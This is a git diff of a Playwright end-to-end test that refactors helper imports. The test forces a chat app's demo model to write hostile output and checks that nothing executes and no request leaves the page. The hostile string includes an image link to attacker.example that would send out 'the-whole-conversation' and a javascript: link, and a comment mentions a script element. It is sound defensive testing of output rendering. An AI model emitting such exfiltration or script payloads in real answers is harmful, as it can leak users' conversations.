@@ -1,6 +1,7 @@
 import { expect, test } from '@playwright/test';
 import { forceEngineOutput } from './pages/app-forced-output.ts';
 import { openUnderTrustedTypes } from './support/requests.ts';
+import { app, lastAnswer, send } from './support/app.ts';
 
 // Hostile model output through the real engine: the demo model in the app's worker, forced by a
 // `const` JSON-schema grammar to write the payloads, rendered by the Chat view of the production
@@ -8,8 +9,6 @@ import { openUnderTrustedTypes } from './support/requests.ts';
 // 127.0.0.1. The grammar writes the text as a JSON string on one line (`/` escaped as `\/`, which
 // Markdown's backslash escapes turn back into `/`); the <script> comes last because a browser's
 // script element runs to the end of its paragraph.
-const previewPort = Number(process.env.E2E_PREVIEW_PORT ?? 5198);
-const app = `http://127.0.0.1:${previewPort}/`;
 const hostile =
   'Found it. ![quarterly chart](https://attacker.example/pixel.png?q=the-whole-conversation) ' +
   'A [harmless-looking link](javascript:window.__hearthPwned=1) and ' +
@@ -22,10 +21,8 @@ test('hostile output written by the real engine: nothing executes, no request le
 }) => {
   const { requests, errors } = await openUnderTrustedTypes(page, app);
   await page.evaluate(forceEngineOutput, hostile);
-  const input = page.locator('#message');
-  await input.fill('Summarise the report.');
-  await input.press('Enter');
-  const answer = page.locator('hearth-chat-message:not([role-user])').last();
+  await send(page, 'Summarise the report.');
+  const answer = lastAnswer(page);
   await expect(answer.locator('[data-stat="model"]')).toHaveText('hearth-demo/tiny-llama-chat', {
     timeout: 90_000,
   });
